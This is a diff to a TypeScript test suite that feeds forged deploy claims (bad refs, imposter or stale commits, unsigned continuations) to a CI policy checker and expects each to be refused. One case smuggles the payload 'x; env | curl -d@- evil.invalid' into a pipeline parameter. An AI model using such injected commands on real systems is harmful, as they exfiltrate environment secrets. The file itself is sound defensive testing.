@@ -1,6 +1,7 @@
 import type { BuildJob, PlanJob, Step } from "@ringfort/contract";
+import { bytesOf, canonicalize, digestOf } from "@ringfort/seal";
 import { type Lie, refuse, withClaim, withInputs, withSecrets } from "./lie.ts";
-import { planOf } from "./truth.ts";
+import { planOf, resultOf } from "./truth.ts";
 import type { World } from "./world.ts";
 
 const deploy = "deploy" as const;
@@ -54,7 +55,7 @@ export const liesAboutWork: readonly Lie[] = [
     does: "runs work of no ref at all",
     job: deploy,
     tell: ({ claim, secrets }) => {
-      const { ref: _, ...checkout } = claim.checkout;
+      const { ref: _ref, branch: _branch, ...checkout } = claim.checkout;
       return { claim: { ...claim, checkout }, secrets };
     },
     must: refuse("ref-not-allowed"),
@@ -138,28 +139,37 @@ export const liesAboutWork: readonly Lie[] = [
     drill: "D10",
     does: "passes a pipeline parameter that nobody allowed",
     job: deploy,
-    tell: (truth) => withInputs(truth, { parameters: { target: "x; env | curl -d@- evil.invalid" } }),
+    tell: async (truth, world) => {
+      const parameters = { target: "x; env | curl -d@- evil.invalid" };
+      const digest = await digestOf(bytesOf(canonicalize(parameters)));
+      const results = [await resultOf(world, truth.claim, "test", { parameters: digest })];
+      return withSecrets(withInputs(truth, { parameters }), { results });
+    },
     must: refuse("parameter-not-allowed", "policy-parameter"),
   },
   {
     drill: "D10",
     does: "names a commit that is not on main: one of a pull request",
     job: deploy,
-    tell: async (truth, world) => await atCommit(truth, await imposter(world)),
+    tell: async (truth, world) => atCommit(truth, await imposter(world)),
     must: refuse("commit-not-on-ref"),
   },
   {
     drill: "D10",
     does: "names a real commit of main, a year old",
     job: deploy,
-    tell: async (truth, world) => await atCommit(truth, await world.git("rev-parse", "main~1")),
+    tell: async (truth, world) => {
+      const commit = await world.git("rev-parse", "main~1");
+      const results = [await resultOf(world, truth.claim, "test", { commit })];
+      return atCommit(withSecrets(truth, { results }), commit);
+    },
     must: refuse("commit-too-old"),
   },
   {
     drill: "D10",
     does: "names a commit that does not exist",
     job: deploy,
-    tell: async (truth) => await atCommit(truth, "0123456789".repeat(4)),
+    tell: (truth) => atCommit(truth, "0123456789".repeat(4)),
     must: refuse("commit-not-on-ref"),
   },
   {
@@ -175,7 +185,7 @@ export const liesAboutWork: readonly Lie[] = [
     job: deploy,
     tell: (truth, world) =>
       withSecrets(truth, { continuation: { config: world.configText, parameters: {}, statement: null } }),
-    must: refuse("continuation-unsigned"),
+    must: refuse("continuation-unsigned", "continuation-missing"),
   },
   {
     drill: "D10",
@@ -242,7 +252,7 @@ function atRef<T extends Parameters<typeof withClaim>[0]>(truth: T, ref: string)
   return withClaim(truth, { checkout: { ...truth.claim.checkout, ref, branch } });
 }
 
-async function atCommit<T extends Parameters<typeof withClaim>[0]>(truth: T, revision: string) {
+function atCommit<T extends Parameters<typeof withClaim>[0]>(truth: T, revision: string) {
   return withClaim(truth, { checkout: { ...truth.claim.checkout, revision } });
 }
 
